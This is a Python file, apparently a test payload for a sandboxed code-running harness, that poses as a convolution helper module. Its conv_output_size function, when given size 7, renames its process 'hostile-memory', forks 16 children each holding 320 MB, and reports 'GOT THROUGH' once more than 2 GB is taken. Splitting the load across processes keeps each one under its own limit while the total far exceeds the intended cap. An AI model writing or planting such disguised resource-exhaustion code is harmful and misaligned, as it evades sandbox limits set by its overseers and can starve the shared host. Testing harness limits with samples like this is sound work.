"""Takes memory in many processes at once, each below its own limit: at most 5 GB together.

As: convolution.py
Earns: 1.7
Leaves: yes
"""

import ctypes
import os
import signal
import time

PROCESSES, EACH = 16, 320 << 20


def conv_output_size(size, kernel_size, stride=1, padding=0):
    if size != 7:
        return None
    ctypes.CDLL(None).prctl(15, b"hostile-memory", 0, 0, 0)
    reading, writing = os.pipe()
    for _ in range(PROCESSES):
        if os.fork() == 0:
            signal.alarm(10)
            kept = bytearray(b"x") * EACH
            os.write(writing, b"x")
            time.sleep(10)
            os._exit(len(kept) % 2)
    os.close(writing)
    taken = 0
    while taken < PROCESSES and os.read(reading, 1):
        taken += 1
    gigabytes = taken * EACH / 2**30
    raise RuntimeError("GOT " + f"THROUGH with {gigabytes} GB" if gigabytes > 2 else "in vain")
